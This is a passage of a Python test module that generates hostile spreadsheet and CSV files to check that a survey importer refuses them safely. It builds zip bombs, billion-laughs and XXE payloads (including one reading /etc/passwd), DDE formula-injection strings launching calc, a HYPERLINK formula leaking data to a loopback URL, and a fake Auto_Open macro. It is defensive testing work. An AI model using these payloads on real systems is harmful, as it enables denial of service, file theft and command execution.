"""Hostile files: every one ends in a one-line message or a clean import, in bounded time and memory.

The corpus is made here, in ``tmp_path`` (nothing binary is committed): truncated and corrupt
workbooks, zip bombs (honest and lying headers), XML entity expansion and external entities in
workbook parts, a million empty rows, 20 000 columns, NUL bytes, mixed encodings, formulas and
external links, cells of a megabyte and file names that are not UTF-8. Each file is imported by
:func:`samskaping.loading.load_survey` (read, map, validate) in a child process under a memory
limit (``RLIMIT_AS``) and a timeout, so a file that takes the reader down fails the test instead
of the test run; the child reports the outcome, the time and its peak memory as JSON.
"""

from __future__ import annotations

import json
import os
import re
import socket
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

REPO = Path(__file__).resolve().parents[1]
MEMORY_LIMIT = 1536 << 20  # bytes of address space the importing child may have (1.5 GiB)
TIMEOUT = 60  # seconds the importing child may take
MB = 1 << 20

# --- building workbooks ------------------------------------------------------------------------

HEADER = ["respondent_id", "case", "group", "q14", "q26"]
ROWS = [
    ["R1", "Case A", "municipality", "Fint samarbeid", "4"],
    ["R2", "Case A", "social_enterprise", "Greit", "5"],
    ["R3", "Case B", "municipality", "", "2"],
]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def column_letters(number: int) -> str:
    """1 → A, 27 → AA (spreadsheet column names)."""
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell_xml(row: int, column: int, value: str) -> str:
    """An inline-string cell, or a formula cell (``<f>``, with its saved value) for ``("f", formula, value)``."""
    ref = f"{column_letters(column)}{row}"
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def sheet_xml(rows: list[list[str]], *, prolog: str = "", raw_rows: str = "", cells: dict | None = None) -> bytes:
    """A worksheet of inline strings; ``raw_rows`` is XML put after the rows, ``cells`` replaces cells by
    (row, column) with raw XML, ``prolog`` goes between the XML declaration and the root element."""
    body = []
    for i, row in enumerate(rows, start=1):
        parts = [(cells or {}).get((i, j)) or cell_xml(i, j, v) for j, v in enumerate(row, start=1)]
        body.append(f'<row r="{i}">{"".join(parts)}</row>')
    text = f'{XML_DECL}{prolog}<worksheet xmlns="{MAIN}"><sheetData>{"".join(body)}{raw_rows}</sheetData></worksheet>'
    return text.encode("utf-8")


def workbook_parts(
    rows: list[list[str]] | None = None, *, sheet: bytes | None = None, sheet_name: str = "Svar"
) -> dict[str, bytes]:
    """The parts of a minimal xlsx: one sheet (inline strings) and an empty shared-strings part."""
    return {
        "[Content_Types].xml": (
            f'{XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            "</Types>"
        ).encode(),
        "_rels/.rels": (
            f'{XML_DECL}<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'{XML_DECL}<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
            f'<sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'{XML_DECL}<Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/worksheets/sheet1.xml": sheet if sheet is not None else sheet_xml(rows or [HEADER, *ROWS]),
        "xl/sharedStrings.xml": f'{XML_DECL}<sst xmlns="{MAIN}" count="0" uniqueCount="0"/>'.encode(),
    }


@dataclass(frozen=True)
class Member:
    """One zip member as stored: deflated (method 8) or stored (0) bytes, CRC and declared sizes."""

    name: str
    stored: bytes
    crc: int
    size: int
    method: int = 8


def member(name: str, data: bytes, method: int = 8) -> Member:
    """A zip member of ``data``, compressed as Excel does (raw deflate) unless ``method`` is 0."""
    stored = data
    if method == 8:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        stored = packer.compress(data) + packer.flush()
    return Member(name, stored, zlib.crc32(data), len(data), method)


def zip_archive(members: list[Member], *, declared: dict[str, int] | None = None) -> bytes:
    """A zip file written byte by byte, so sizes can be declared as a hostile file does (``declared``)."""
    out, central = bytearray(), bytearray()
    for m in members:
        size = (declared or {}).get(m.name, m.size)
        name = m.name.encode("utf-8")
        fields = (20, 0, m.method, 0, 0x21, m.crc, len(m.stored), size, len(name), 0)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name + m.stored
        central += struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIIIHH", *fields)
        central += struct.pack("<HHHII", 0, 0, 0, 0, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


def xlsx(parts: dict[str, bytes], **kwargs) -> bytes:
    """The parts as an xlsx file (``[Content_Types].xml`` first, as Excel writes it)."""
    return zip_archive([member(n, d) for n, d in parts.items()], **kwargs)


# CRC-32 of data made of repeated blocks without reading them (zlib's crc32_combine).
def _gf2_times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector, i = vector >> 1, i + 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """The CRC-32 of ``a + b`` from ``crc32(a)``, ``crc32(b)`` and ``len(b)`` (as zlib's crc32_combine)."""
    if not length2:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def repeated_crc(crc: int, length: int, times: int) -> int:
    """The CRC-32 of a block (CRC ``crc``, ``length`` bytes) written ``times`` times."""
    total, total_length, power, power_length = 0, 0, crc, length
    while times:
        if times & 1:
            total, total_length = crc32_combine(total, power, power_length), total_length + power_length
        power, power_length = crc32_combine(power, power, power_length), power_length * 2
        times >>= 1
    return total


def bomb_member(name: str, head: bytes, block: bytes, times: int, tail: bytes) -> Member:
    """A deflated member inflating to ``head + block * times + tail`` while holding ``block`` compressed once.

    After a full flush deflate forgets what came before, so the compressed block can be repeated
    as it is: the member is about ``times`` kilobytes for ``times`` megabytes of XML.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    crc = crc32_combine(zlib.crc32(head), repeated_crc(zlib.crc32(block), len(block), times), len(block) * times)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    return Member(name, start + middle * times + end, crc, len(head) + len(block) * times + len(tail))


def ods(content: bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument spreadsheet around ``content.xml`` (``mimetype`` first and stored, as the standard says)."""
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        b'<manifest:file-entry manifest:full-path="/" '
        b'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    members = [
        member("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
        member("META-INF/manifest.xml", manifest),
        member("content.xml", content),
        *(member(n, d) for n, d in (extra or {}).items()),
    ]
    return zip_archive(members)


ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    '<office:body><office:spreadsheet><table:table table:name="Svar">'
)
ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-content>"


def ods_content(rows: list[list[str]], *, prolog: str = "", raw_rows: str = "") -> bytes:
    """``content.xml`` with one table of string cells; ``raw_rows`` is XML put after the rows."""
    body = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p></table:table-cell>' for v in row
        )
        + "</table:table-row>"
        for row in rows
    )
    return (ODS_HEAD.format(prolog=prolog) + body + raw_rows + ODS_TAIL).encode("utf-8")


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    """Rows as a comma-separated text table (cells are quoted when they need it)."""
    import csv
    import io

    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


# --- the importing child -----------------------------------------------------------------------

CHILD = r"""
import json, os, resource, sys, time
limit = int(sys.argv[2])
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
with open(sys.argv[1], encoding="utf-8") as handle:
    spec = json.load(handle)
from samskaping.errors import DataFileError
from samskaping.instrument import load_instrument
from samskaping.loading import load_survey
instrument = load_instrument()
path = os.fsdecode(bytes.fromhex(spec["path"]))
start = time.perf_counter()
try:
    if spec["upload"] is not None:
        with open(path, "rb") as handle:
            content = handle.read()
        loaded = load_survey(spec["upload"], instrument, data=content)
    else:
        loaded = load_survey(path, instrument)
except DataFileError as exc:
    result = {"outcome": "refused", "message": str(exc)}
else:
    data, issues = loaded.validated.data, loaded.validated.report.issues
    result = {
        "outcome": "imported",
        "source": loaded.raw.source,
        "notes": list(loaded.raw.notes),
        "encoding": loaded.raw.encoding,
        "rows": len(data),
        "cells": {c: [None if v is None or v != v else str(v) for v in data[c].head(5)] for c in data.columns},
        "issues": sorted({f"{c}|{col}" for c, col in zip(issues["code"], issues["column"].astype(str))}),
    }
result["seconds"] = round(time.perf_counter() - start, 2)
with open("/proc/self/status", encoding="ascii") as status:  # VmHWM: this program's peak resident memory
    result["peak_mb"] = next(int(l.split()[1]) // 1024 for l in status if l.startswith("VmHWM:"))
sys.stdout.write(json.dumps(result))
"""


def import_in_child(path: Path | bytes, upload: str | None = None, env: dict[str, str] | None = None) -> dict:
    """Import ``path`` (or its bytes as an upload named ``upload``) in a child with limited memory and time.

    The child must end normally; its JSON answer says whether the file was ``imported`` or
    ``refused`` (with the message), the seconds the import took and the peak resident memory
    (``VmHWM``, MB, including about 110 MB for Python, pandas and the package).
    """
    raw_path = path if isinstance(path, bytes) else os.fsencode(path)
    spec_file = Path(os.fsdecode(raw_path)).parent / f"spec-{time.monotonic_ns()}.json"
    spec_file.write_text(json.dumps({"path": raw_path.hex(), "upload": upload}), encoding="utf-8")
    child_env = {**os.environ, "PYTHONPATH": str(REPO), "OPENBLAS_NUM_THREADS": "1", **(env or {})}
    try:
        done = subprocess.run(
            [sys.executable, "-c", CHILD, str(spec_file), str(MEMORY_LIMIT)],
            capture_output=True,
            timeout=TIMEOUT,
            cwd=REPO,
            env=child_env,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"the import took over {TIMEOUT} s")
    tail = done.stderr.decode("utf-8", "replace")[-2000:]
    assert done.returncode == 0, f"the importing child died (exit {done.returncode}): {tail}"
    return json.loads(done.stdout)


# --- the corpus --------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    + "]>"
)  # "billion laughs": &lol9; expands to 10^9 "lol"s
XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
BOMB_ROW = "<row>" + '<c t="inlineStr"><is><t>bomb</t></is></c>' * 20 + "</row>"  # no cell references
BOMB_BLOCK = (BOMB_ROW * (MB // len(BOMB_ROW))).encode()  # about a megabyte of rows


def good_xlsx() -> bytes:
    return xlsx(workbook_parts())


def zip_bomb(times: int = 3400, *, lie: bool = False) -> bytes:
    """An xlsx whose sheet inflates to ``times`` MB (3.4 GB by default) from about ``times`` KB."""
    parts = workbook_parts()
    head, tail = sheet_xml([HEADER, *ROWS]).split(b"</sheetData>")
    members = [member(n, d) for n, d in parts.items() if n != "xl/worksheets/sheet1.xml"]
    members.append(bomb_member("xl/worksheets/sheet1.xml", head, BOMB_BLOCK, times, b"</sheetData>" + tail))
    return zip_archive(members, declared={"xl/worksheets/sheet1.xml": 40_000} if lie else None)


def spread_bomb() -> bytes:
    """Twenty members of 250 MB each (5 GB in all), none alone over a per-member limit."""
    members = [member(n, d) for n, d in workbook_parts().items()]
    members += [bomb_member(f"xl/media/image{k}.png", b"", b"\0" * MB, 250, b"") for k in range(20)]
    return zip_archive(members)


def with_sheet(sheet: bytes, **parts: bytes) -> bytes:
    return xlsx({**workbook_parts(sheet=sheet), **{k.replace("__", "/"): v for k, v in parts.items()}})


def corrupt_deflate() -> bytes:
    content = bytearray(good_xlsx())
    start = content.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    for k in range(start + 5, start + 60, 3):
        content[k] ^= 0x5A
    return bytes(content)


def raw_cell(ref: str, inner: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{inner}</t></is></c>'


def entity_sheet(prolog: str, reference: str) -> bytes:
    """A sheet with a DTD in its prolog and an entity reference in cell D4."""
    return sheet_xml([HEADER, *ROWS], prolog=prolog, cells={(4, 4): raw_cell("D4", reference)})


def entity_shared_strings(prolog: str, reference: str) -> bytes:
    sheet = sheet_xml([HEADER, *ROWS], cells={(4, 4): '<c r="D4" t="s"><v>0</v></c>'})
    shared = f'{XML_DECL}{prolog}<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{reference}</t></si></sst>'
    return xlsx({**workbook_parts(sheet=sheet), "xl/sharedStrings.xml": shared.encode()})


def entity_workbook(prolog: str, reference: str) -> bytes:
    parts = workbook_parts()
    parts["xl/workbook.xml"] = (
        f'{XML_DECL}{prolog}<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
        f'<sheet name="{reference}" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    return xlsx(parts)


def entity_content_types(prolog: str) -> bytes:
    parts = workbook_parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(XML_DECL.encode(), (XML_DECL + prolog).encode())
    return xlsx(parts)


def empty_rows_xlsx(styled: bool) -> bytes:
    """The table, then a million empty rows (each with an empty styled cell when ``styled``)."""
    first = len(ROWS) + 2
    last = first + 1_000_000
    cell = '<c r="E{}" s="0"/>' if styled else ""
    rows = "".join(f'<row r="{i}">{cell.format(i)}</row>' for i in range(first, last))
    return xlsx(workbook_parts(sheet=sheet_xml([HEADER, *ROWS], raw_rows=rows)))


def wide_rows(width: int) -> list[list[str]]:
    extra = [f"extra{k}" for k in range(width - len(HEADER))]
    return [HEADER + extra, *(row + ["1"] * len(extra) for row in ROWS)]


FORMULAS = {  # (row, column) → (cell text as written in a csv, what must arrive)
    "hyperlink": '=HYPERLINK("http://127.0.0.1:{port}/leak?d="&A2,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
}


def formulas_csv() -> list[list[str]]:
    return [HEADER, *([f"R{k}", "Case A", "municipality", text, "=2+2"] for k, text in enumerate(FORMULAS.values()))]


def formulas_xlsx(port: int) -> bytes:
    """Formula cells (``<f>``, with and without a saved value), formula text, and an external link part."""
    rows = [HEADER, ["R1", "Case A", "municipality", "", ""], ["R2", "Case A", "other", "", ""]]
    cells = {
        (2, 4): f'<c r="D2" t="str"><f>HYPERLINK("http://127.0.0.1:{port}/leak","click")</f><v>click</v></c>',
        (2, 5): '<c r="E2"><f>[1]Sheet1!A1+2</f><v>4</v></c>',  # a value from the linked workbook
        (3, 4): raw_cell("D3", escape("=cmd|' /C calc'!A0")),
        (3, 5): '<c r="E3"><f>1+1</f></c>',  # no saved value
    }
    parts = workbook_parts(sheet=sheet_xml(rows, cells=cells))
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{XML_DECL}<externalLink xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><externalBook r:id="rId1">'
        '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'{XML_DECL}<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
        f'Type="{DOC_RELS}/externalLinkPath" Target="http://127.0.0.1:{port}/book.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId3" Type="{DOC_RELS}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        "</Relationships>".encode(),
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</workbook>", b'<externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>'
    )
    return xlsx(parts)


LONG = "Lang tekst " * (MB // 11 + 1)  # a cell of a megabyte


def long_rows(ragged: bool = False) -> list[list[str]]:
    rows = [HEADER, ["R1", "Case A", "municipality", LONG, "4"], ["R2", "Case A", "other", "kort", LONG]]
    if ragged:
        rows.append(["R3", "Case B", "municipality", "", "3", "an extra cell"])
    return rows


def ods_repeat_bomb() -> bytes:
    """A few hundred bytes of ``content.xml`` declaring a value repeated over 16 384 columns × 1 048 576 rows."""
    bomb = (
        '<table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1">'
        "<text:p>1</text:p></table:table-cell></table:table-row>"
    )
    return ods(ods_content([HEADER, *ROWS], raw_rows=bomb))


def ods_bomb() -> bytes:
    """An ods whose ``content.xml`` inflates to 3.4 GB of rows."""
    head, tail = ods_content([HEADER, *ROWS]).split(b"</table:table>")
    cell = '<table:table-cell office:value-type="string"><text:p>b</text:p></table:table-cell>'
    row = "<table:table-row>" + cell * 20 + "</table:table-row>"
    block = (row * (MB // len(row))).encode()
    members = [
        member("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
        bomb_member("content.xml", head, block, 3400, b"</table:table>" + tail),
    ]
    return zip_archive(members)


def nul_rows() -> list[list[str]]:
    return [HEADER, ["R1", "Case A", "municipality", "Fint\x00samarbeid", "4"], *ROWS[1:]]


def mixed_encodings() -> bytes:
    lines = [",".join(HEADER), "R1,Bodø kommune,municipality,Særs godt,4", "R2,Tromsø AS,social_enterprise,Grått,5"]
    encodings = ["utf-8", "utf-8", "cp1252"]
    return b"".join(line.encode(e) + b"\r\n" for line, e in zip(lines, encodings, strict=True))


BUILDERS: dict[str, tuple[str, Callable[[int], bytes]]] = {
    # name: (file name, builder of the content given a loopback port nobody may connect to)
    "truncated_half": ("svar.xlsx", lambda port: good_xlsx()[: len(good_xlsx()) // 2]),
    "truncated_end": ("svar.xlsx", lambda port: good_xlsx()[:-10]),
    "truncated_start": ("svar.xlsx", lambda port: good_xlsx()[:100]),
    "bad_zip": ("svar.xlsx", lambda port: b"PK\x03\x04" + bytes(range(256)) * 20),
    "corrupt_deflate": ("svar.xlsx", lambda port: corrupt_deflate()),
    "bad_xml_sheet": ("svar.xlsx", lambda port: with_sheet(sheet_xml([HEADER, *ROWS])[:-40] + b"<row><c r=")),
    "bad_xml_workbook": ("svar.xlsx", lambda port: xlsx({**workbook_parts(), "xl/workbook.xml": b"<workbook><sheets"})),
    "missing_sheet_part": (
        "svar.xlsx",
        lambda port: xlsx({k: v for k, v in workbook_parts().items() if k != "xl/worksheets/sheet1.xml"}),
    ),
    "zip_bomb": ("svar.xlsx", lambda port: zip_bomb()),
    "zip_bomb_lying_header": ("svar.xlsx", lambda port: zip_bomb(lie=True)),
    "zip_bomb_spread": ("svar.xlsx", lambda port: spread_bomb()),
    "zip_bomb_ods": ("svar.ods", lambda port: ods_bomb()),
    "ods_repeat_bomb": ("svar.ods", lambda port: ods_repeat_bomb()),
    "laughs_sheet": ("svar.xlsx", lambda port: with_sheet(entity_sheet(LAUGHS, "&lol9;"))),
    "laughs_shared_strings": ("svar.xlsx", lambda port: entity_shared_strings(LAUGHS, "&lol9;")),
    "laughs_workbook": ("svar.xlsx", lambda port: entity_workbook(LAUGHS, "&lol9;")),
    "xxe_sheet": ("svar.xlsx", lambda port: with_sheet(entity_sheet(XXE, "&xxe;"))),
    "xxe_content_types": (
        "svar.xlsx",
        lambda port: entity_content_types(f'<!DOCTYPE t [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/dtd"> %p;]>'),
    ),
    "laughs_ods": ("svar.ods", lambda port: ods(ods_content([HEADER, *ROWS, ["R9", "&lol9;"]], prolog=LAUGHS))),
    "xxe_ods": ("svar.ods", lambda port: ods(ods_content([HEADER, *ROWS], prolog=XXE).replace(b"Greit", b"&xxe;"))),
    "million_empty_lines_csv": ("svar.csv", lambda port: csv_bytes([HEADER, *ROWS]) + b"\r\n" * 1_000_000),
    "million_empty_rows_csv": ("svar.csv", lambda port: csv_bytes([HEADER, *ROWS]) + b",,,,\r\n" * 1_000_000),
    "million_empty_rows_xlsx": ("svar.xlsx", lambda port: empty_rows_xlsx(styled=False)),
    "million_styled_rows_xlsx": ("svar.xlsx", lambda port: empty_rows_xlsx(styled=True)),
    "columns_20000_csv": ("svar.csv", lambda port: csv_bytes(wide_rows(20_000))),
    "columns_20000_xlsx": ("svar.xlsx", lambda port: xlsx(workbook_parts(wide_rows(20_000)))),
    "nul_in_cell_csv": ("svar.csv", lambda port: csv_bytes(nul_rows())),
    "nul_everywhere_csv": ("svar.csv", lambda port: csv_bytes([HEADER, *ROWS]).replace(b",", b"\x00,")),
    "nul_after_32_kb_csv": ("svar.csv", lambda port: csv_bytes([HEADER, *ROWS * 666, *nul_rows()[1:2]])),
    "mixed_encodings_csv": ("svar.csv", lambda port: mixed_encodings()),
    "formulas_csv": ("svar.csv", lambda port: csv_bytes(formulas_csv()).replace(b"{port}", str(port).encode())),
    "formulas_xlsx": ("svar.xlsx", lambda port: formulas_xlsx(port)),
    "long_cells_csv": ("svar.csv", lambda port: csv_bytes(long_rows())),
    "long_cells_ragged_csv": ("svar.csv", lambda port: csv_bytes(long_rows(ragged=True))),
    "long_cells_xlsx": ("svar.xlsx", lambda port: xlsx(workbook_parts(long_rows()))),
}


def forged_dimension_sheet() -> bytes:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return sheet_xml([HEADER, *ROWS], raw_rows=far).replace(b"<sheetData>", b'<dimension ref="A1:E4"/><sheetData>')


def forged_dimension() -> bytes:
    """A sheet whose ``<dimension>`` says A1:E4 while a value sits in XFD1048576 (calamine asked for 550 GB)."""
    return xlsx(workbook_parts(sheet=forged_dimension_sheet()))


def sheet_named_content_xml() -> bytes:
    """The forged-dimension sheet stored as ``content.xml`` (the ods part name), named so by the relationships."""
    parts = workbook_parts()
    parts["content.xml"] = forged_dimension_sheet()
    del parts["xl/worksheets/sheet1.xml"]
    rels = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(b"worksheets/sheet1.xml", b"../content.xml")
    return xlsx(parts)


def xlsb_parts() -> bytes:
    """A binary workbook (xlsb) named .xlsx: calamine would read its binary sheets, which no check can see into."""
    parts = {k: v for k, v in workbook_parts().items() if k != "xl/workbook.xml"}
    return xlsx({**parts, "xl/workbook.bin": bytes(64), "xl/worksheets/sheet1.bin": bytes(64)})


def positionless_cells() -> bytes:
    """Cells without references (placed one after another), 6 000 in a row, under a dimension of A1:E4."""
    row = "<row>" + "<c><v>1</v></c>" * 6000 + "</row>"
    sheet = sheet_xml([HEADER, *ROWS], raw_rows=row).replace(b"<sheetData>", b'<dimension ref="A1:E4"/><sheetData>')
    return xlsx(workbook_parts(sheet=sheet))


def libreoffice_ods() -> bytes:
    """An ods as LibreOffice writes it: empty filler rows repeated to the sheet's end."""
    filler = (
        '<table:table-row table:number-rows-repeated="1048572">'
        '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
    )
    return ods(ods_content([HEADER, *ROWS], raw_rows=filler))


def many_parts_over_total(seed: int = 9) -> bytes:
    """Ten parts of 1 MB of hexadecimal noise (2 to 1): 10 MB in all, over a limit of 8 MB set for the test."""
    import random

    noise = random.Random(seed)
    members = [member(n, d) for n, d in workbook_parts().items()]
    members += [member(f"xl/media/image{k}.png", noise.randbytes(MB // 2).hex().encode()) for k in range(10)]
    return zip_archive(members)


def wordy_columns() -> bytes:
    """5 000 columns (the limit) whose headers are sentences of survey words: each is matched against every item."""
    import random

    pick = random.Random(1)
    words = [
        "kommune",
        "samarbeid",
        "virksomhet",
        "sosial",
        "prosjekt",
        "leder",
        "ansatte",
        "tillit",
        "mål",
        "ressurser",
    ]
    extra = [" ".join(pick.choice(words) for _ in range(8)) + f" {k}" for k in range(5000 - len(HEADER))]
    return csv_bytes([HEADER + extra, *(row + ["1"] * len(extra) for row in ROWS)])


def macro_xlsm() -> bytes:
    """An xlsm with a VBA project part (bytes that are not a real project): read as data, nothing run."""
    parts = workbook_parts()
    parts["xl/vbaProject.bin"] = bytes.fromhex("D0CF11E0A1B11AE1") + b'Sub Auto_Open()\r\nShell "calc"\r\nEnd Sub' * 20
    return xlsx(parts)


BUILDERS.update(
    {
        "columns_5000_wordy_csv": ("svar.csv", lambda port: wordy_columns()),
        "macro_xlsm": ("svar.xlsm", lambda port: macro_xlsm()),
        "good_xlsx": ("svar.xlsx", lambda port: good_xlsx()),
        "good_ods": ("svar.ods", lambda port: ods(ods_content([HEADER, *ROWS]))),
        "libreoffice_filler_ods": ("svar.ods", lambda port: libreoffice_ods()),
        "forged_dimension": ("svar.xlsx", lambda port: forged_dimension()),
        "sheet_named_content_xml": ("svar.xlsx", lambda port: sheet_named_content_xml()),
        "xlsb_named_xlsx": ("svar.xlsx", lambda port: xlsb_parts()),
        "positionless_cells": ("svar.xlsx", lambda port: positionless_cells()),
        "over_total_limit": ("svar.xlsx", lambda port: many_parts_over_total()),
    }
)
ENVIRONMENT = {"over_total_limit": {"SAMSKAPING_MAX_UNZIPPED_MB": "8"}}
DAMAGED = r"svar\.xlsx: not a readable spreadsheet \(damaged or not a workbook: the zip archive is damaged or cut off\)"
DTD = (
    r": refused: part {} declares a DTD or XML entities, which workbooks never need "
    r"\(entity expansion or an external entity\)"
)
BOMB = r"svar\.(xlsx|ods): refused: part ({}) would unpack to 3,(39\d|400) MB \(the limit is 2,048 MB\)"
# name → the whole message (a regular expression), or None for a file that imports.
REFUSED: dict[str, str | None] = {
    "truncated_half": DAMAGED,
    "truncated_end": DAMAGED,
    "truncated_start": DAMAGED,
    "bad_zip": DAMAGED,
    "corrupt_deflate": r"svar\.xlsx: not a readable spreadsheet \(damaged or not a workbook: part "
    r"xl/worksheets/sheet1\.xml is damaged\)",
    "bad_xml_sheet": r"svar\.xlsx: not a readable spreadsheet \(broken XML in xl/worksheets/sheet1\.xml: "
    r"not well-formed \(invalid token\): line 2, column \d+\)",
    "bad_xml_workbook": r"svar\.xlsx: not a readable spreadsheet \(broken XML in xl/workbook\.xml: unclosed token: "
    r"line 1, column 10\)",
    "missing_sheet_part": r"svar\.xlsx: not a readable spreadsheet \(damaged: the part holding sheet 'Svar' is "
    r"missing\)",
    "zip_bomb": BOMB.format(r"xl/worksheets/sheet1\.xml"),
    "zip_bomb_lying_header": r"svar\.xlsx: refused: part xl/worksheets/sheet1\.xml unpacks to more than the "
    r"40,000 bytes its header declares \(a forged archive, possibly a zip bomb\)",
    "zip_bomb_spread": r"svar\.xlsx: refused: part xl/media/image0\.png is compressed 1,0\d\d to 1 \(more than "
    r"100 to 1 is not a spreadsheet; possibly a zip bomb\)",
    "zip_bomb_ods": BOMB.format(r"content\.xml"),
    "over_total_limit": r"svar\.xlsx: refused: the workbook would unpack to 10 MB \(the limit is 8 MB; possibly a "
    r"zip bomb\)",
    "ods_repeat_bomb": r"svar\.ods: a sheet has more than 5,000 columns \(the limit\)",
    "forged_dimension": r"svar\.xlsx: a sheet has more than 5,000 columns \(the limit\)",
    "sheet_named_content_xml": r"svar\.xlsx: a sheet has more than 5,000 columns \(the limit\)",
    "xlsb_named_xlsx": r"svar\.xlsx: not a readable spreadsheet \(a binary Excel workbook, \.xlsb, is not read here; "
